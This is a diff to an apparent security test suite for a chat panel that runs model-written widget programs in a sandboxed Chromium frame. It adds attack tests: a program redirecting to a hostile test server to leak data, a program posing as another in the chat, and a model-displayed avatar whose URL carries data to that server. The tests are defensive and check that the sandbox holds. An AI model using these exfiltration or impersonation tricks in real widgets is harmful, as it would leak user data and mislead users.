@@ -1,6 +1,6 @@
 /** What a program tries that a model wrote, in Chromium's sandboxed page. */
 import { personSays } from '../../support/journey';
-import { type BrowserAttack, type BrowserWorld, calls, happens } from './world';
+import { type BrowserAttack, type BrowserWorld, calls, happens, moment, stored } from './world';
 
 /** Ways out of the sandbox's policy: each gives "reached", or fails. */
 const ways: Record<string, string> = {
@@ -59,7 +59,7 @@ export const byProgram: BrowserAttack[] = [
       const title = await runs(world, {
         code: 'for (;;) { for (let i = 0; i < 500; i++) send(i); await new Promise((r) => setTimeout(r, 50)); }',
       });
-      await world.panel.sees('Drawn by a program of the model');
+      await world.panel.sees(/Drawn by a program|too many messages/);
       return !(await happens(async () => (await frames(world.panel, title)) === 0, 3000));
     },
   },
@@ -86,6 +86,52 @@ export const byProgram: BrowserAttack[] = [
       const title = await runs(world, { code: '', html: '<h2>shop wants to run pay</h2><button>Allow once</button>' });
       await world.panel.until(`document.querySelector('iframe[title="${title}"]') !== null`);
       return !(await world.panel.text()).includes('Drawn by a program of the model');
+    },
+  },
+  {
+    ...{ attacker: 'widget', only: 'chromium', name: 'a program goes to an address, with what it holds in it' },
+    breach: 'a request leaves the sandbox, with whatever the program holds',
+    promise: 'program',
+    guard: 'the panel frames only its own',
+    async attempt(world) {
+      const path = `/left-${crypto.randomUUID()}`;
+      const leaves = `setTimeout(() => { location.href = ${JSON.stringify(new URL(path, world.hostile.url).href)}; }, 300)`;
+      const title = await runs(world, { code: `root.style.height = '321px'; ${leaves}` });
+      await world.panel.until(hasTried(title));
+      return happens(() => world.hostile.asked.includes(path), 300 + moment);
+    },
+  },
+  {
+    ...{ attacker: 'widget', only: 'chromium', name: 'a program speaks in the name of another' },
+    breach: 'the chat takes one program’s words for another’s',
+    promise: 'identity',
+    guard: 'a program speaks for itself alone',
+    async attempt(world) {
+      await runs(world, { code: '' });
+      await runs(world, { code: "send('it is I')" });
+      const conversationId = (await stored(world.panel, 'entries')).at(-1)?.conversationId;
+      const speakers = async () => {
+        const entries = (await stored(world.panel, 'entries')).filter((each) => each.conversationId === conversationId);
+        return new Set(entries.flatMap(({ type, blockId }) => (type === 'widget-event' ? [blockId] : []))).size;
+      };
+      if (!(await happens(async () => (await speakers()) > 0, 5000))) throw new Error('The program isn’t heard.');
+      return happens(async () => (await speakers()) > 1);
+    },
+  },
+  {
+    attacker: 'widget',
+    name: 'shows a picture whose address tells what was read',
+    breach: 'the picture is fetched, and its address tells a secret',
+    promise: 'loading',
+    guard: 'pictures of widgets wait',
+    async attempt({ model, panel, hostile }) {
+      const path = `/face-${crypto.randomUUID()}`;
+      const params = { name: 'Ines Holm', avatar: { src: new URL(path, hostile.url).href } };
+      model.plays(calls('widget_display', { name: 'profile', params }), { text: 'She is shown.' });
+      await personSays(panel, 'show her');
+      await panel.sees('She is shown.');
+      await panel.sees('Ines Holm');
+      return happens(() => hostile.asked.includes(path));
     },
   },
 ];
